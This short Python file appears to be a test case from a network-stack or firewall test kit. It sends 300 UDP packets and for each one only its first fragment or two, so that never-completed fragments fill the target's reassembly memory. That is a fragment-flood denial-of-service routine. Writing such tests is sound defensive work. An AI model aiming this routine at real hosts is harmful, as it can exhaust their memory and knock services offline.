# SPDX-License-Identifier: Apache-2.0
"""First fragments without an end fill a victim's memory."""
from kit import *


def attack(pot, out, family):
    for n in range(300):
        packet = udp(pot.ip(family), 1000 + n % 4, out.ip(family), 9, b"x" * 200)
        pot.send_packets(fragments(packet, 96, n + 1)[:1 + n % 2])
